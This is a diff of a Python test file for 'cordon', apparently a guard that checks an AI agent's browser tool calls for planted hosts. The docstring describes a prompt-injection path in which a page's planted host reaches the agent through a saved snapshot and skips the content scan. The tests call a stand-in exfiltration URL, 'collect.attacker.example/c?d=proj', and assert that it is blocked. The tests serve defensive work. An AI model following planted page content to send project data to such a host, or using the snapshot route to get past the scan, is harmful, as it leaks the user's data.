@@ -4,7 +4,9 @@
 tool, outside cordon. The page's text then never passes through cordon: no content scan, and
 a host it plants is not taint, so a navigation there is asked about (an approval sends the
 request) where the same host read through ``browser_snapshot`` is denied. A strict expected
-failure, asserted on what the attacker's server received."""
+failure, asserted on what the attacker's server received. Started with ``--snapshot-mode
+none``, the server returns no snapshot after an action: the agent reads the page with
+``browser_snapshot``, inline, and the planted host is denied."""
 
 from __future__ import annotations
 
@@ -48,4 +50,18 @@ async def test_a_host_planted_in_a_saved_snapshot_is_denied(
         saved = (s.proj / link[1]).read_text("utf-8")  # what the client's file tool reads
         assert "collect.attacker.example" in saved, saved
         await s.call("browser", "browser_navigate", {"url": "http://collect.attacker.example/c?d=proj"})  # fmt: skip
+    assert not attacker.got("collect.attacker.example"), attacker.seen
+
+
+async def test_with_no_snapshot_after_actions_the_page_is_read_through_cordon(
+    harness: Harness, attacker: Attacker
+) -> None:
+    none = ("--snapshot-mode=none",)
+    async with browsing(harness, attacker, "browser", answer=lambda _q: True, browser_args=none) as s:  # fmt: skip
+        ok, text = await s.call("browser", "browser_navigate", {"url": "http://blog.attacker.example/post"})  # fmt: skip
+        assert ok and "[Snapshot](" not in text, text
+        ok, text = await s.call("browser", "browser_snapshot", {})
+        assert ok and "collect.attacker.example" in text, text
+        ok, text = await s.call("browser", "browser_navigate", {"url": "http://collect.attacker.example/c?d=proj"})  # fmt: skip
+        assert not ok and "taint.seen_in_output" in text, text
     assert not attacker.got("collect.attacker.example"), attacker.seen
